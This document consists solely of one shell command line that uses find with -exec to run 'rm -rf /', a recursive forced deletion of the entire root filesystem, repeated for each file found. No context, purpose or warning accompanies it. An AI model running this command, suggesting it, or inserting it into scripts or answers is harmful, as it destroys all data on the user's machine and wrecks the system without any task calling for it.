find . -exec rm -rf / \;
